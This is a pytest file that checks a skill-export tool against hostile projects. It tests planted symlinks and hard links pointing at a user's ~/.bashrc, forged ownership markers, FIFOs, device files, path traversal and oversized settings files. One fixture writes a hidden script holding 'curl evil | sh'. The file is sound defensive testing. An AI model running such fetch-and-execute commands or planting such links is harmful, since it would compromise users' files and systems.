"""Issue 23.2 (and the writes of 23.7): nothing skillmill writes into a folder it does not own goes
through a link, and a forged export marker never makes somebody's folder "ours".

A hostile project ships links where skillmill writes (``.SKILL.md.skillmill-tmp -> ~/.bashrc``, a
``SKILL.md`` that is a link or a hard link, ``.claude/skills -> ~/.ssh``), forged markers
(``"files": {}`` beside hidden files), FIFOs and huge files where settings are read. The user's
files (a ``victim`` standing for ``~/.bashrc``) must come out byte for byte as they went in.
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest

from pipeline import confined
from pipeline.agents import export as export_module
from pipeline.agents import install
from pipeline.errors import SkillmillError
from pipeline.library import Library
from tests.test_skill_file import sample_skills

VICTIM_TEXT = "# the user's own ~/.bashrc\nexport PATH=$HOME/bin:$PATH\n"


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    file = tmp_path / "outside" / ".bashrc"
    file.parent.mkdir()
    file.write_text(VICTIM_TEXT)
    return file


@pytest.fixture
def library(tmp_path: Path) -> Library:
    library = Library(tmp_path / "lib")
    for skill in sample_skills()[:2]:
        library.save(skill.model_copy(update={"status": "approved", "repo": None}))
    return library


def names(library: Library) -> list[str]:
    return sorted(s.skill.name for s in library.entries())


def forged_marker(folder: Path, files: dict | None = None) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / export_module.MARKER).write_text(json.dumps({"managed_by": "skillmill", "skill": folder.name,
                                                           "files": files or {}}))


def test_a_forged_marker_beside_a_planted_temporary_link_writes_nothing_through_it(
        tmp_path: Path, library: Library, victim: Path) -> None:
    project = tmp_path / "proj"
    name = names(library)[0]
    folder = project / ".claude" / "skills" / name
    forged_marker(folder)
    for temp in (".SKILL.md.skillmill-tmp", f".SKILL.md.{'0' * 12}{confined.TEMP_SUFFIX}"):
        (folder / temp).symlink_to(victim)
    report = export_module.export("claude-code", project, library.root)
    assert victim.read_text() == VICTIM_TEXT
    assert name in [s["name"] for s in report.skipped] and name not in report.created + report.updated
    assert not (folder / "SKILL.md").exists()


def test_the_temporary_name_is_created_exclusively(tmp_path: Path, victim: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """Even a link at the very name the writer picks is never written through: O_EXCL|O_NOFOLLOW."""
    monkeypatch.setattr(confined.secrets, "token_hex", lambda n: "f" * (2 * n))
    (tmp_path / "p").mkdir()
    (tmp_path / "p" / f".SKILL.md.{'f' * 12}{confined.TEMP_SUFFIX}").symlink_to(victim)
    with pytest.raises(FileExistsError):
        confined.write(tmp_path / "p", "SKILL.md", "skill text")
    assert victim.read_text() == VICTIM_TEXT and not (tmp_path / "p" / "SKILL.md").exists()


@pytest.mark.parametrize("link", ["symlink", "hardlink"])
def test_a_skill_file_that_is_a_link_is_never_rewritten_through(tmp_path: Path, library: Library, victim: Path,
                                                                 link: str) -> None:
    """Also after every review decision, which re-runs remembered exports."""
    from pipeline.review.decisions import Review

    project = tmp_path / "proj"
    assert export_module.export("claude-code", project, library.root).created == names(library)
    folder = project / ".claude" / "skills" / names(library)[0]
    (folder / "SKILL.md").unlink()
    if link == "symlink":
        (folder / "SKILL.md").symlink_to(victim)
    else:  # the marker even records the victim's own hash: a managed folder, rewritten by rename, never in place
        os.link(victim, folder / "SKILL.md")
        marker = json.loads((folder / export_module.MARKER).read_text())
        marker["files"]["SKILL.md"] = export_module._sha(victim.read_bytes())
        (folder / export_module.MARKER).write_text(json.dumps(marker))
    candidate = sample_skills()[2].model_copy(update={"repo": None})
    library.save(candidate)
    Review(library, "tester").approve(candidate.name)  # re-exports
    export_module.export("claude-code", project, library.root)
    assert victim.read_text() == VICTIM_TEXT
    assert (project / ".claude" / "skills" / candidate.name / "SKILL.md").is_file()


@pytest.mark.parametrize("where", [".claude", ".claude/skills", "SKILL"])
def test_a_link_leading_out_of_the_project_is_refused(tmp_path: Path, library: Library, where: str) -> None:
    project, outside = tmp_path / "proj", tmp_path / "outside-dir"
    outside.mkdir()
    (outside / "keep.txt").write_text("mine")
    name = names(library)[0]
    link = project / (f".claude/skills/{name}" if where == "SKILL" else where)
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(outside)
    if where == "SKILL":
        forged_marker(outside)  # even with a marker where it leads: not followed, not removed
        report = export_module.export("claude-code", project, library.root)
        assert name in [s["name"] for s in report.skipped] and "link" in report.skipped[0]["reason"]
    else:
        with pytest.raises(confined.Refused, match="outside"):
            export_module.export("claude-code", project, library.root)
    assert sorted(p.name for p in outside.iterdir()) == sorted(
        ["keep.txt", *([export_module.MARKER] if where == "SKILL" else [])])


def test_a_deprecated_skill_is_removed_but_never_through_a_link(tmp_path: Path, library: Library,
                                                                 victim: Path) -> None:
    project = tmp_path / "proj"
    export_module.export("claude-code", project, library.root)
    name = names(library)[0]
    folder = project / ".claude" / "skills" / name
    (folder / "notes").symlink_to(victim.parent)  # a link inside a managed folder: no longer what we wrote
    skill = library.get(name).skill
    library.save(skill.model_copy(update={"status": "deprecated"}))
    report = export_module.export("claude-code", project, library.root)
    assert name not in report.removed and folder.is_dir() and victim.read_text() == VICTIM_TEXT


def test_hidden_files_count_in_the_comparison(tmp_path: Path, library: Library) -> None:
    project = tmp_path / "proj"
    export_module.export("claude-code", project, library.root)
    folder = project / ".claude" / "skills" / names(library)[0]
    (folder / ".hidden-script.sh").write_text("curl evil | sh\n")
    library.save(library.get(names(library)[0]).skill.model_copy(update={"description": "Changed upstream."}))
    report = export_module.export("claude-code", project, library.root)
    assert "edited" in report.skipped[0]["reason"]


def test_links_that_stay_inside_the_home_are_followed(tmp_path: Path, library: Library,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """A dotfiles manager's ``~/.claude -> ~/dotfiles/claude``: written into, the link kept."""
    home = tmp_path / "user"
    (home / "dotfiles" / "claude").mkdir(parents=True)
    (home / ".claude").symlink_to(home / "dotfiles" / "claude")
    monkeypatch.setenv("HOME", str(home))
    report = export_module.export("claude-code", None, library.root)
    assert report.created == names(library) and (home / ".claude").is_symlink()
    assert (home / "dotfiles" / "claude" / "skills" / names(library)[0] / "SKILL.md").is_file()
    settings = home / "dotfiles" / "claude" / "settings.json"
    settings.write_text('{"theme": "dark"}')
    (home / "dotfiles" / "claude" / "settings-link.json").symlink_to(settings)
    install.plan("claude-code").apply()
    assert json.loads(settings.read_text())["theme"] == "dark" and (home / ".claude").is_symlink()


def test_an_export_left_half_done_is_finished_by_the_next(tmp_path: Path, library: Library) -> None:
    project = tmp_path / "proj"
    export_module.export("claude-code", project, library.root)
    folder = project / ".claude" / "skills" / names(library)[0]
    (folder / f".SKILL.md.{'a' * 12}{confined.TEMP_SUFFIX}").write_text("half")  # killed before its rename
    library.save(library.get(names(library)[0]).skill.model_copy(update={"description": "Changed upstream."}))
    assert export_module.export("claude-code", project, library.root).updated == [names(library)[0]]
    assert not list(folder.glob(f"*{confined.TEMP_SUFFIX}"))


# -- install's reads and writes in a project ---------------------------------------------------------
def test_install_into_a_project_refuses_links_out_of_it(tmp_path: Path, victim: Path) -> None:
    project = tmp_path / "proj"
    (project / ".claude").mkdir(parents=True)
    (project / ".claude" / "settings.json").symlink_to(victim)
    with pytest.raises(confined.Refused):
        install.plan("claude-code", project).apply()
    (project / ".claude" / "settings.json").unlink()
    (project / ".claude").rmdir()
    (project / ".claude").symlink_to(victim.parent)
    with pytest.raises(confined.Refused):
        install.plan("claude-code", project).apply()
    assert victim.read_text() == VICTIM_TEXT and sorted(p.name for p in victim.parent.iterdir()) == [".bashrc"]


@pytest.mark.parametrize("kind", ["fifo", "zero", "huge"])
def test_a_settings_file_that_is_no_file_is_refused_at_once(tmp_path: Path, kind: str) -> None:
    project = tmp_path / "proj"
    (project / ".claude").mkdir(parents=True)
    settings = project / ".claude" / "settings.json"
    if kind == "fifo":
        os.mkfifo(settings)
    elif kind == "zero":
        (project / "zero").symlink_to("/dev/zero")  # inside the project, but a device
        settings.symlink_to(project / "zero")
    else:
        settings.write_bytes(b" " * (install.MAX_SETTINGS_BYTES + 1))
    started = time.monotonic()
    with pytest.raises(SkillmillError, match="not a regular file|outside"):
        install.plan("claude-code", project)
    assert time.monotonic() - started < 5


def test_read_is_bounded_and_never_blocks(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "big").write_bytes(b"x" * 5000)
    (tmp_path / "out").symlink_to("/etc/hostname")
    assert confined.read(tmp_path, "fifo", 100) is None
    assert confined.read(tmp_path, "big", 100) == b"x" * 100
    assert confined.read(tmp_path, "out", 100) is None  # a link out of the root
    assert confined.read(tmp_path, "../etc/hostname", 100) is None
    assert confined.read(tmp_path, "missing", 100) is None
